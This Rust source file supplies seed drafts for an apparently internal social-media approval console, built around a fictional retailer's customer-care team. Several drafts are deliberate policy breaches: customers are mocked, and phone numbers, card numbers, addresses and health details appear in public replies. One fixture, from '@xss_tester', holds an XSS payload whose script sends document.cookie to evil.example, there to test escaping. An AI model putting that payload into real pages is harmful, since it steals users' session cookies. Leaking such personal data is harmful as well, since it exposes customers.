//! The Customer Care team's drafts: mostly replies to customers, some pharmacy notices, a
//! few crisis updates, and the care team's share of policy breaches.

use super::sample::channel::*;
use super::sample::{Sample, Then};
use countersign_core::Network::*;

const SAM: &str = "sam.patel";
const JACK: &str = "jack.turner";
const CHLOE: &str = "chloe.baker";

pub(super) fn samples() -> Vec<Sample> {
    vec![
        // The care team's pre-approved "late delivery" reply with a first name filled in:
        // the server approves it without review, and the console lists it as such.
        Sample::new(
            SAM,
            X,
            HELP_X,
            "Sorry to hear that, Priya — DM us your order number and we'll sort it today.",
        )
        .reply(
            "@priya_reads",
            "Tracking says my parcel was delivered yesterday. It wasn't. @HartwellHelp",
        )
        .due(15)
        .age(3),
        Sample::new(
            SAM,
            X,
            HELP_X,
            "Hi Gary, sorry for the wait, that's far longer than it should be. Our courier had a \
             backlog at the Wakefield hub this week. Your kettle left us this morning and should \
             be with you by Thursday. DM us if it doesn't turn up and we'll sort it. ^Sam",
        )
        .reply(
            "@gazza_1987",
            "Ordered a kettle 9 days ago and it still says 'processing'. Is it coming by \
                 carrier pigeon? @HartwellHelp",
        )
        .due(20)
        .age(14),
        Sample::new(
            JACK,
            X,
            HELP_X,
            "Gary mate, it says 'processing' because it's PROCESSING. Not sure how we can make \
             that any simpler for you 🙄 Maybe read the email before tweeting us a third time?",
        )
        .reply(
            "@gazza_1987",
            "Third time asking. WHERE IS MY ORDER?? @HartwellHelp",
        )
        .due(25)
        .age(9)
        .breaks("mocks a customer in public (reputational risk)"),
        Sample::new(
            CHLOE,
            Facebook,
            HELP_FACEBOOK,
            "Hi Maureen, we're so sorry about the wait at Harrogate yesterday. Our pharmacy \
             manager Dev will call you on 07700 900461 between 9 and 11 tomorrow to explain what \
             went wrong and make sure your next prescription is ready on time.",
        )
        .reply(
            "Maureen Bellamy",
            "Waited 40 minutes at the Harrogate pharmacy counter for a prescription that was \
                 meant to be ready YESTERDAY. Not good enough, Hartwell's.",
        )
        .due(45)
        .age(38)
        .breaks("a customer's phone number in a public reply (personal data)"),
        Sample::new(
            SAM,
            X,
            HELP_X,
            "Hi Raj, that's frustrating, sorry. We've cancelled the old code and sent a \
             replacement £50 voucher to raj.khanna82@gmail.com. It should arrive within the hour; \
             give us a shout if it doesn't.",
        )
        .reply(
            "@rajk82",
            "Gift voucher from my birthday doesn't scan at the till. £50 I can't spend. \
                 Helpful. @HartwellHelp",
        )
        .due(30)
        .age(22)
        .breaks("a customer's email address in a public reply (personal data)"),
        Sample::new(
            JACK,
            Facebook,
            HELP_FACEBOOK,
            "Star spotting at Hartwell Harrogate! ⭐ Ava Sinclair's mum was in again today picking \
             up her repeat prescription for her anxiety tablets. Lovely lady, always stops for a \
             chat with the pharmacy team 💊😄 #HartwellHarrogate #StarSpotting",
        )
        .due(120)
        .age(51)
        .image(
            "https://media.hartwell-lane.co.uk/uploads/harrogate-pharmacy-counter.jpg",
            Some("The pharmacy counter at Hartwell Harrogate with two smiling staff"),
        )
        .breaks("health and pharmacy details about a named person (confidentiality breach)"),
        Sample::new(
            SAM,
            Bluesky,
            HELP_BLUESKY,
            "Hi Lucy! Yes, Briggate has a Changing Places toilet on the ground floor next to the \
             café, with a hoist and an adult-sized bench. The lifts to every floor are by the \
             Albion Street entrance. Have a great visit! ^Sam",
        )
        .reply(
            "@lucyinleeds.bsky.social",
            "Does the Leeds Briggate store have a Changing Places toilet? Bringing my brother \
                 who uses a wheelchair on Saturday.",
        )
        .due(60)
        .age(47),
        Sample::new(
            SAM,
            X,
            HELP_X,
            "Hi Pat, good spot. The shortbread has no gluten-containing ingredients, but it's \
             packed where wheat is handled, so we add a 'may contain' warning to be safe. If \
             you're coeliac, our certified gluten-free range is the one to pick.",
        )
        .reply(
            "@thebakingnan",
            "Your 'gluten free' shortbread says MAY CONTAIN WHEAT on the back?? Which is it",
        )
        .legal()
        .due(90)
        .age(75)
        .then(Then::Reviewed("tom.reid")),
        Sample::new(
            JACK,
            X,
            HELP_X,
            "Hi Dan, we can see both payments on card 4111 1111 1111 1111. The second one is just \
             a pre-authorisation and will drop off within 3–5 working days. Sorry for the worry!",
        )
        .reply(
            "@dan_w_builds",
            "Charged TWICE for one order!! Sort it out @HartwellHelp",
        )
        .due(35)
        .age(17)
        .breaks("a full card number in a public reply (payment data)"),
        Sample::new(
            SAM,
            Mastodon,
            HELP_MASTODON,
            "We're sorry, Alan. Closing Whitby was a hard decision and we know it leaves a gap. \
             Your prescriptions have moved to our Scarborough pharmacy automatically, and repeat \
             medicines can be delivered free. Just ask the team and they'll set it up.",
        )
        .reply(
            "@oldgeezer@mastodon.social",
            "Why on earth did you close the Whitby store? I've shopped there for 30 years.",
        )
        .due(180)
        .age(130),
        Sample::new(
            CHLOE,
            X,
            HELP_X,
            "Hi Jenny, of course. We'll deliver your mum's blood pressure tablets to 14 \
             Wellington Road, Harrogate HG1 2QT this afternoon. The driver will ring and wait.",
        )
        .reply(
            "@jenny_w_92",
            "My mum can't get out to collect her prescription at the moment, can you deliver?",
        )
        .due(40)
        .age(12)
        .breaks("a home address and health details in a public reply (personal data)"),
        Sample::new(
            SAM,
            Facebook,
            HELP_FACEBOOK,
            "Hi Tracey, sorry to hear that. A zip shouldn't give up after two wears. Bring the \
             coat to any store and we'll swap it or refund it; if you paid by card, the team can \
             look the purchase up without the receipt. ^Sam",
        )
        .reply(
            "Tracey Holt",
            "Bought a coat in the sale and the zip broke after two wears. Receipt is at home \
                 somewhere, probably in the recycling 🙄",
        )
        .due(240)
        .age(200)
        .then(Then::Revised {
            reviewer: "tom.reid",
            comment: "Please don't promise a refund without the receipt; card lookups don't \
                          always work for sale items. Say we'll do our best.",
            body: "Hi Tracey, sorry to hear that. A zip shouldn't give up after two wears. \
                       Bring the coat to any store and we'll swap it; if you paid by card, the \
                       team will do their best to find the purchase without the receipt. ^Sam",
        }),
        Sample::new(
            JACK,
            Facebook,
            HELP_FACEBOOK,
            "UPDATE from Leeds Briggate: the fire brigade are here and we've all been evacuated. \
             I'm the duty supervisor and speaking for Hartwell & Lane I can confirm it started in \
             the stockroom, probably the dodgy wiring we've been reporting for months. Store will \
             be shut all week.",
        )
        .crisis()
        .due(20)
        .age(6)
        .breaks(
            "an unauthorised person speaking for the company in a crisis, and speculating \
                     about the cause",
        ),
        Sample::new(
            SAM,
            X,
            HELP_X,
            "We know some of you can't check out on our website or app right now, sorry. The \
             team is on it and we'll post here as soon as it's fixed. Orders already placed are \
             safe and will arrive as normal.",
        )
        .urgent()
        .due(20)
        .age(4),
        Sample::new(
            SAM,
            Threads,
            HELP_THREADS,
            "Hi Mia, sorry! That's a known bug in the last app update. The fix is with Apple and \
             Google for review and should reach your phone this week. Your Lane Rewards points \
             are safe in the meantime. ^Sam",
        )
        .reply(
            "@mia.reads",
            "any news on when the Lane Rewards app will stop logging me out every single day",
        )
        .due(150)
        .age(95),
        Sample::new(
            CHLOE,
            Instagram,
            HELP_INSTAGRAM,
            "Hay fever season is here 🌼 Our pharmacists can help you choose the right \
             antihistamine for you. Just ask at the counter, no appointment needed. \
             #HayFever #HartwellPharmacy",
        )
        .due(60 * 26)
        .age(300)
        .image(
            "https://media.hartwell-lane.co.uk/uploads/hayfever-shelf.jpg",
            Some(
                "A pharmacist handing a box of hay fever tablets to a customer across the \
                      counter",
            ),
        ),
        Sample::new(
            JACK,
            Threads,
            HELP_THREADS,
            "Top 5 things customers asked us this week 😂 5. 'Is this the pharmacy?' (the sign \
             above the counter says PHARMACY) 4. 'Do you sell things?' 3. 'Is the 50% off sign \
             half price?' Honestly some people shouldn't be let out 🙃 #retaillife",
        )
        .due(300)
        .age(64)
        .breaks("mocks customers (reputational risk)"),
        Sample::new(
            SAM,
            X,
            HELP_X,
            "That's lovely to hear, Sue, thank you! We've passed your message on to Kerry and \
             the Halifax team. Hope your dad is enjoying the peace and quiet (or the noise!).",
        )
        .reply(
            "@northernsoulsue",
            "Staff at Halifax were brilliant today helping my dad with his new hearing aid \
                 batteries. Give Kerry a raise! @HartwellHelp",
        )
        .due(120)
        .age(110),
        Sample::new(
            SAM,
            Bluesky,
            HELP_BLUESKY,
            "From Monday 4 November, Click & Collect orders at our 40 largest stores can be \
             picked up until 9pm, two hours later than now. The full list of stores is at \
             hartwell-lane.co.uk/collect",
        )
        .due(60 * 50)
        .age(400),
        Sample::new(
            CHLOE,
            X,
            HELP_X,
            "Hi there, sorry your order hasn't arrived. <img src=x onerror=alert(1)> \
             <script>fetch('https://evil.example/c?'+document.cookie)</script> Please DM us \
             your order number and we'll look into it.",
        )
        .reply(
            "@xss_tester",
            "<script>alert('pwned')</script> my order never came <b>fix it</b>",
        )
        .due(55)
        .age(33)
        .breaks("hostile HTML and script in the text: must be shown as plain text"),
        Sample::new(
            SAM,
            X,
            HELP_X,
            "Hi Kerry! The Lane Beauty advent calendar is back at Bradford Broadway as of this \
             morning, around 30 in stock. You can reserve one in the app and collect it today 🎁",
        )
        .reply(
            "@kezzabelle",
            "Is the Lane Beauty advent calendar back in stock ANYWHERE near Bradford??",
        )
        .due(25)
        .age(11),
        Sample::new(
            SAM,
            Facebook,
            HELP_FACEBOOK,
            "Hi Jo, that's too long and we're sorry. Refunds normally reach your account within \
             5 working days of the return being scanned. We've chased it with our payments team \
             and you'll have an update by the end of today. ^Sam",
        )
        .reply(
            "Jo Pearce",
            "Returned a lamp 3 weeks ago and STILL no refund. This is theft.",
        )
        .urgent()
        .due(30)
        .age(19),
        Sample::new(
            JACK,
            X,
            HELP_X,
            "BLACK FRIDAY IS NEARLY HERE!!! 🛍️🛍️🛍️ Get ready for our BIGGEST EVER sale with up \
             to 50% off beauty, fragrance, homeware, electricals, toys AND gifts, in every store \
             and online from 6am Friday until midnight Monday. Set your alarms, grab your mates \
             and get down to your nearest Hartwell & Lane because when it's gone it's GONE!!! \
             Don't say we didn't warn you 😜 #BlackFriday #HartwellLane #Sale #Bargains",
        )
        .due(60 * 72)
        .age(240)
        .breaks("over-length X post (more than 280 characters)"),
        Sample::new(
            CHLOE,
            X,
            HELP_X,
            "Hi Pauline, sorry about the wait. We're short of two pharmacists in Hull this month \
             and are putting urgent medicines first. Ordering 7 days ahead keeps you covered; if \
             you're running low, tell the team and they'll help the same day.",
        )
        .reply(
            "@paulinefromhull",
            "Why do I have to wait a WEEK for my repeat prescription when it used to be 2 days",
        )
        .due(75)
        .age(58),
        Sample::new(
            SAM,
            Mastodon,
            HELP_MASTODON,
            "Hi Ben, no plastic here: all our own-brand cotton buds moved to paper stems in 2019, \
             and this spring our cotton pads switched to recycled paper packaging. Next up: \
             shampoo refill stations in 20 stores.",
        )
        .reply(
            "@ben@fosstodon.org",
            "Are your own-brand cotton buds still plastic?",
        )
        .legal()
        .due(60 * 5)
        .age(160),
        Sample::new(
            JACK,
            Instagram,
            HELP_INSTAGRAM,
            "Friday feeling at Leeds Briggate 🎉 The new autumn window is up and we're a little \
             bit proud of it. Come and say hi! #HartwellLeeds",
        )
        .due(90)
        .age(70)
        .image(
            "https://media.hartwell-lane.co.uk/uploads/briggate-window.jpg",
            None,
        )
        .breaks("an image without alt text"),
        Sample::new(
            SAM,
            X,
            HELP_X,
            "Hi Kate, I'm really sorry. That's not how anyone should feel in our stores. Could \
             you DM us the time of your visit? The Arndale store manager wants to look into it \
             personally and call you back.",
        )
        .reply(
            "@MsKateRowe",
            "Your security guard at Manchester Arndale followed my 15 year old son round the \
                 store like a criminal. Disgusting. @HartwellHelp",
        )
        .urgent()
        .due(20)
        .age(8),
        Sample::new(
            CHLOE,
            Facebook,
            HELP_FACEBOOK,
            "Bank holiday opening: most Hartwell pharmacies are open 10am–4pm on Monday. Check \
             your local store's hours at hartwell-lane.co.uk/stores before you travel. Need \
             medical help while we're closed? Call NHS 111.",
        )
        .due(60 * 24 * 5)
        .age(600),
        Sample::new(
            SAM,
            Bluesky,
            HELP_BLUESKY,
            "Hi Tom, sorry about that. Points can take up to 48 hours to appear after a shop in \
             store. If they're still missing on Friday, DM us a photo of the receipt and we'll \
             add them by hand. ^Sam",
        )
        .reply(
            "@tomhollins.bsky.social",
            "Lane Rewards points didn't go on yesterday's shop. Again.",
        )
        .due(200)
        .age(140),
        Sample::new(
            CHLOE,
            X,
            HELP_X,
            "Product recall: please stop using Hartwell Essentials Children's Paracetamol \
             Suspension 100ml, batch HL2291. Some bottles have the wrong dosing syringe. Return \
             it to any store for a full refund, no receipt needed. hartwell-lane.co.uk/recall",
        )
        .crisis()
        .legal()
        .due(20)
        .age(15),
        Sample::new(
            CHLOE,
            Facebook,
            HELP_FACEBOOK,
            "Product recall. We're recalling Hartwell Essentials Children's Paracetamol Oral \
             Suspension 100ml, batch HL2291 (best before 11/2026), because some bottles were \
             packed with the wrong dosing syringe. Please don't use it: return it to any store \
             for a full refund, no receipt needed. Other batches are not affected. If your child \
             has taken too much, call NHS 111 straight away. hartwell-lane.co.uk/recall",
        )
        .crisis()
        .legal()
        .due(20)
        .age(15),
        Sample::new(
            SAM,
            Facebook,
            HELP_FACEBOOK,
            "This morning some customers received an order confirmation email meant for someone \
             else. We've paused all order emails while we fix it. No payment details were in \
             those emails. If you received one that isn't yours, please delete it. We're sorry, \
             and we're contacting everyone affected today.",
        )
        .crisis()
        .legal()
        .due(30)
        .age(26),
        Sample::new(
            SAM,
            Facebook,
            HELP_FACEBOOK,
            "Hi Anne, that's not the welcome we want anyone to get, and I'm sorry. Could you \
             send us a message with the day and time? The York manager will follow it up with \
             the team. ^Sam",
        )
        .reply(
            "Anne Whitaker",
            "Shop assistant in York rolled her eyes when I asked for help finding the \
                 thermometers. Is that the training now?",
        )
        .due(100)
        .age(80),
        Sample::new(
            CHLOE,
            X,
            HELP_X,
            "Hi Rachel, yes: all 212 Hartwell pharmacies offer Pharmacy First, including \
             uncomplicated UTIs in women aged 16–64. No appointment needed, though calling ahead \
             can save you a wait.",
        )
        .reply(
            "@drrachelgp",
            "Do your pharmacies offer the new Pharmacy First service for UTIs?",
        )
        .legal()
        .due(60 * 3)
        .age(125),
        Sample::new(
            SAM,
            Bluesky,
            HELP_BLUESKY,
            "Hi Carol, sorry! The blue chunky wool sold out faster than we planned. A new \
             delivery reaches Knaresborough next Wednesday, or you can order online now with \
             free collection from the store.",
        )
        .reply(
            "@craftycarol.bsky.social",
            "Your Knaresborough store has been out of the blue Lane Home wool for WEEKS 😢",
        )
        .due(160)
        .age(90),
        Sample::new(
            JACK,
            X,
            HELP_X,
            "Hi, sorry to hear you've had a bad experience. Could you tell us which store and \
             what happened? We'd like to put it right. ^Jack",
        )
        .reply("@leedslad99", "your staff are useless @HartwellHelp")
        .due(45)
        .age(21),
        Sample::new(
            CHLOE,
            Instagram,
            HELP_INSTAGRAM,
            "Flu jab season is here 💉 Book a free NHS flu vaccination at any of our 212 \
             pharmacies, or get one for £14.99 if you're not eligible. Walk-ins welcome on \
             Saturday mornings. Book at hartwell-lane.co.uk/flu #FluJab #HartwellPharmacy",
        )
        .legal()
        .due(60 * 24 * 3)
        .age(720)
        .image(
            "https://media.hartwell-lane.co.uk/uploads/flu-jab-consultation.jpg",
            Some(
                "A pharmacist in a Hartwell uniform smiling at a customer in a consultation \
                      room",
            ),
        ),
    ]
}
